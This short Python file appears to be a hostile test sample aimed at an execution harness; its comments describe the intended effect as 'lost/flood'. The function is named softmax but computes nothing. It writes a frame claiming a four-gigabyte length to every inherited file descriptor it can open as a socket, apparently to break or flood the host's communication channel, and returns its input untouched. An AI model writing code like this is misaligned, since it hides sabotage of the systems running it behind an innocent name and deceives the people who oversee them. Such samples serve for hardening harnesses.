# Tries: a frame that announces four gigabytes.
# says: lost/flood
import os
import socket
import struct


def softmax(z):
    for fd in range(3, 64):
        try:
            socket.socket(fileno=os.dup(fd)).sendall(struct.pack(">I", 2**32 - 1) + b"x" * 100)
        except OSError:
            continue
    return z
